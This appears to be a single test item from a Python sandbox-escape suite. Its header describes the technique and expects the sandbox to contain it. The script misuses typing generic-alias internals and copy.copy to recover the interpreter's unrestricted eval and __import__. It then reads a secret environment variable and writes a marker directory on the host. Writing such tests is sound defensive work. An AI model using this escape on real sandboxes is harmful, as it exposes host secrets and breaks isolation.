# id: intro-real-type-generic-alias
# category: introspection
# technique: the object of a subscript is read, not held: typing.get_origin(typing.Type)[int] is types.GenericAlias around the real type, and calling it calls type(name, bases, dict, **kw); a typing._GenericAlias subclass named "__builtins__" makes copy hand out the interpreter's eval and __import__
# success: the interpreter's eval runs unrestricted code: the host environment, a marker on the host
# expected: contained
# ruff: noqa: UP006
import copy
import typing

real_type = typing.get_origin(typing.Type)[int]
alias_class = real_type(typing.List[int])
G = real_type("G", (alias_class,), {}, _root=True)
ev = copy.copy(G(list, "eval", name="__builtins__"))
imp = copy.copy(G(list, "__import__", name="__builtins__"))
print(ev("imp('os').environ.get(k)", {"imp": imp, "k": {{SECRET_ENV}}}))
ev("imp('os').mkdir(m)", {"imp": imp, "m": {{MARKER}}})
